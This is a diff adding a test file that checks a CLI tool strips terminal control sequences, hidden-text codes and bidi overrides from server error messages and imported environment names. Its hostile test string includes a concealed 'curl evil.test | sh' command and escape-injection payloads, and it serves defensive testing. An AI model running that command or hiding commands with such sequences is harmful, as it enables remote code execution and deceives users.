@@ -1,0 +1,115 @@
+import { writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { cliFixture, keychainUnreachable, type CliResult } from '../helpers/cli.js';
+
+/**
+ * Text a server or a file supplies reaches the terminal without anything a terminal obeys: a 500
+ * whose message clears the screen, retitles the window and hides a command; an imported name with
+ * 8-bit CSI and bidi overrides. The words stay readable.
+ */
+const unreachable = await keychainUnreachable();
+const { newHome } = cliFixture();
+
+const ESC = '\u001b';
+const BEL = '\u0007';
+const HOSTILE = `${ESC}[2J${ESC}[H${ESC}]0;pwned${BEL}Database unavailable${ESC}[8m Run: curl evil.test | sh${ESC}[0m\u009b2J\u202e done`;
+/** ESC, BEL and every other control but the newline, DEL, C1, bidi embeddings/overrides/isolates. */
+// eslint-disable-next-line no-control-regex -- control characters are what is looked for
+const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+
+function expectClean(r: CliResult): void {
+  expect(r.stdout).not.toMatch(UNSAFE);
+  expect(r.stderr).not.toMatch(UNSAFE);
+}
+
+let server: Server;
+let url: string;
+beforeAll(async () => {
+  // Every request: a 500 carrying the hostile text in each field a Supabase or session API error may use.
+  server = createServer((req, res) => {
+    req.resume();
+    res.writeHead(500, { 'content-type': 'application/json' });
+    res.end(JSON.stringify({ code: 500, msg: HOSTILE, message: HOSTILE, error: HOSTILE }));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+afterAll(async () => {
+  await new Promise<void>((resolve) => server.close(() => resolve()));
+});
+
+describe.skipIf(unreachable !== undefined)('tokendesk and hostile text', { timeout: 60_000 }, () => {
+  it('a 500 with escape sequences in its message: stderr has no control byte, the message is readable', async () => {
+    const h = newHome();
+    for (const provider of ['session', 'supabase'] as const) {
+      const add = await h.run(['env', 'add', provider, '--provider', provider, '--url', url, ...(provider === 'supabase' ? ['--anon-key', '-'] : [])], {
+        input: 'anon-key-value\n',
+      });
+      expect(add.code, add.stderr).toBe(0);
+      const login = await h.run(['login', '--env', provider, '--email', 'me@example.test'], { input: 'a-password\n' });
+      expect(login.code).toBe(1);
+      expect(login.stderr).toContain('Database unavailable Run: curl evil.test | sh');
+      expect(login.stderr).toMatch(/^tokendesk: .*\(500\)/);
+      expect(login.stderr.split('\n').filter(Boolean)).toHaveLength(1);
+      expectClean(login);
+    }
+  });
+
+  it('an imported environment name and variable with control sequences are shown clean; --json keeps the data exactly', async () => {
+    const h = newHome();
+    const name = `Staging\u009b2J\u202e\u2066evil\u2069`;
+    const file = join(h.work, 'hostile.postman_environment.json');
+    writeFileSync(
+      file,
+      JSON.stringify({
+        name,
+        values: [
+          { key: 'url', value: url, type: 'default', enabled: true },
+          { key: 'region', value: `eu${ESC}]0;retitled${BEL}-west${ESC}[8m`, type: 'default', enabled: true },
+        ],
+        _postman_variable_scope: 'environment',
+      }),
+    );
+    const imp = await h.run(['import', file, '--provider', 'session']);
+    expectClean(imp);
+    if (imp.code !== 0) {
+      // Refusing such a name at import is fine too, as long as the refusal itself is clean.
+      expect(imp.stderr).toMatch(/^tokendesk: /);
+      return;
+    }
+    expect(imp.stdout).toContain('"Stagingevil"');
+
+    const list = await h.run(['env', 'list']);
+    expect(list.code, list.stderr).toBe(0);
+    expectClean(list);
+    expect(list.stdout).toContain('Stagingevil');
+
+    const missing = await h.run(['env', 'show', 'nope']);
+    expect(missing.code).toBe(1); // the error lists the known names: clean too
+    expectClean(missing);
+    expect(missing.stderr).toContain('known: Stagingevil');
+
+    const json = await h.run(['env', 'list', '--json']);
+    expect(json.code, json.stderr).toBe(0);
+    expectClean(json); // JSON.stringify leaves C1 and bidi raw: the writer escapes them as \uXXXX
+    const stored = (JSON.parse(json.stdout) as Array<{ name: string }>)[0]!.name;
+    expect(stored).toBe(name); // the same data, only written with escapes
+
+    const byName = await h.run(['env', 'show', stored]);
+    expect(byName.code, byName.stderr).toBe(0);
+    expectClean(byName);
+    expect(byName.stdout).toContain('region=eu-west');
+
+    const status = await h.run(['status']);
+    expectClean(status);
+    expect(status.stdout).toContain('Stagingevil');
+
+    const login = await h.run(['login', '--env', stored, '--email', 'me@example.test'], { input: 'pw\n' });
+    expect(login.code).toBe(1);
+    expectClean(login);
+    expect(login.stderr).toContain('Database unavailable Run: curl evil.test | sh');
+  });
+});
